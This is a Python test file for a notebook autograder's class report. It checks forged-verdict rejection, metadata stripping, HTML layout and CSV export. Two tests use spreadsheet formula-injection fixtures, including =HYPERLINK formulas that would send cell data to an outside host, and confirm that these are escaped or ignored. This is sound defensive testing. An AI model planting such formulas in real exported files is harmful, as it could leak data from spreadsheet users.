"""The class report trusts only the grader's own verdicts, and its CSV opens as text in a spreadsheet."""
import csv

import nbformat

from grader.engine import report
from grader.engine.nbgrader_plugin import InjectProbes


def _cell(kind, grade_id, grade, solution, course=None):
    cell = nbformat.v4.new_code_cell("") if kind == "code" else nbformat.v4.new_markdown_cell("")
    cell.metadata["nbgrader"] = {"grade": grade, "solution": solution, "grade_id": grade_id, "points": 1}
    if course is not None:
        cell.metadata["course"] = course
    return cell


def test_only_a_graded_test_cell_holds_a_verdict(tmp_path):
    """A written answer whose metadata a student filled with a 'verdict' (a formula, a wrong type) is not one."""
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        _cell("code", "test_x", True, False, {"verdict": {"score": 1.0, "points": 1.0, "mistake": None,
                                                          "message": "x: right", "finding": None}}),
        _cell("markdown", "why", True, True, {"verdict": {"mistake": '=HYPERLINK("http://x/?"&A1,"details")',
                                                          "message": "forged"}}),
        _cell("code", "test_y", True, False, {"verdict": 1}),
        _cell("code", "test_z", True, False, {"verdict": {"message": ["not", "text"]}}),
    ]
    path = tmp_path / "nb.ipynb"
    nbformat.write(nb, str(path))
    assert report._verdicts(path) == {"test_x": {"score": 1.0, "points": 1.0, "mistake": None,
                                                 "message": "x: right", "finding": None}}


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path):
    row = {c: "" for c in report.EXPORT_COLUMNS + report.PART_COLUMNS}
    row.update(student_id='=HYPERLINK("evil.example","y")', verdict="@SUM(A1)", mistake="-2+3", part_score=-0.5,
               score=2.0)
    report.write_csv([row], tmp_path / "grades.csv")
    with open(tmp_path / "grades.csv", newline="") as f:
        written = next(csv.DictReader(f))
    assert written["student_id"] == "'" + row["student_id"]
    assert written["verdict"] == "'@SUM(A1)" and written["mistake"] == "'-2+3"
    assert written["part_score"] == "-0.5" and written["score"] == "2.0"  # numbers stay numbers


def test_course_metadata_in_a_submission_is_dropped_before_grading(monkeypatch):
    """Only SealVerdicts writes a verdict; a generated cell's marker survives, anything else a submission
    carries under "course" does not."""
    nb = nbformat.v4.new_notebook()
    nb.cells = [_cell("markdown", "why", True, True, {"verdict": {"mistake": "forged", "message": "forged"}}),
                _cell("code", "values", False, False, {"generated": "values", "verdict": {"message": "x"}})]
    nb.cells[1].metadata["nbgrader"] = {"grade": False, "solution": False, "locked": True, "grade_id": "values"}
    monkeypatch.setenv("COURSE_GRADING_SEED", "1")
    resources = {"nbgrader": {"notebook": "no_such_notebook", "student": "s", "assignment": "a", "db_url": ""}}
    nb, _ = InjectProbes()(nb, resources)
    assert "course" not in nb.cells[0].metadata
    assert nb.cells[1].metadata["course"] == {"generated": "values"}


def _rows(students=("ada", "bo", "cy"), assignments=("01_a", "02_b", "03_c", "04_d", "05_e", "06_f")):
    """A class: two autograded parts and a written one per assignment; the written ones not graded yet."""
    rows = []
    for i, s in enumerate(students):
        for a in assignments:
            for part, score, most, manual in (("test_one", i, 2, False), ("test_two", 1, 3, False), ("why", 0, 2, True)):
                row = {c: "" for c in report.EXPORT_COLUMNS + report.PART_COLUMNS}
                row.update(student_id=s, assignment=a, notebook=a, part=part, part_score=None if manual else score,
                           part_max_score=most, needs_manual_grade=manual)
                rows.append(row)
    return rows


def test_the_report_fits_the_page_and_has_a_row_per_student(tmp_path):
    import matplotlib.image
    rows = _rows()
    report.write_html(rows, [], tmp_path)
    page = (tmp_path / "index.html").read_text()
    assert "img{max-width:100%" in page
    width = matplotlib.image.imread(str(tmp_path / "histograms.png")).shape[1]
    assert width <= 1000, f"the histograms are {width} px wide"
    assert "<h2>Students</h2>" in page
    for student, got in (("ada", 1), ("bo", 2), ("cy", 3)):
        assert f"<tr><td>{student}</td><td>{got}/5, 1 by hand</td>" in page
    # One denominator a column: a written answer graded by hand is counted apart, not into the 5.
    graded = [dict(r, needs_manual_grade=False, part_score=2) if r["student_id"] == "ada" and r["part"] == "why"
              else r for r in rows]
    report.write_html(graded, [], tmp_path)
    page = (tmp_path / "index.html").read_text()
    assert "<tr><td>ada</td><td>1/5, 2/2 by hand</td>" in page and "<tr><td>bo</td><td>2/5, 1 by hand</td>" in page
    assert "white-space:nowrap" in page


def test_an_empty_course_gives_a_report_not_a_traceback(tmp_path):
    report.write_html([], [], tmp_path)
    assert "graded parts: 0" in (tmp_path / "index.html").read_text()


def test_the_grade_table_shows_written_answers_pending_and_totals_them_apart():
    import io
    from grader.engine.grade import print_table
    out = io.StringIO()
    print_table([r for r in _rows(assignments=("01_a",))], out=out)
    lines = out.getvalue().splitlines()
    assert lines[2].split() == ["student", "one", "two", "why", "auto", "by", "hand"]
    assert lines[3].split() == ["(out", "of)", "2", "3", "2", "5", "2"]
    assert lines[5].split() == ["bo", "1", "1", "pending", "2", "pending"]


def test_histograms_count_whole_students(tmp_path, monkeypatch):
    import matplotlib.figure
    saved = {}
    original = matplotlib.figure.Figure.savefig
    monkeypatch.setattr(matplotlib.figure.Figure, "savefig",
                        lambda self, path, **kw: (saved.setdefault(str(path), self), original(self, path, **kw))[1])
    report.write_html(_rows(students=("ada",)), [], tmp_path)  # one student: matplotlib would tick 0.2, 0.4, ...
    axes = [ax for ax in saved[str(tmp_path / "histograms.png")].axes if ax.get_visible()]
    assert len(axes) == 6
    assert all(float(t).is_integer() for ax in axes for t in ax.get_yticks())
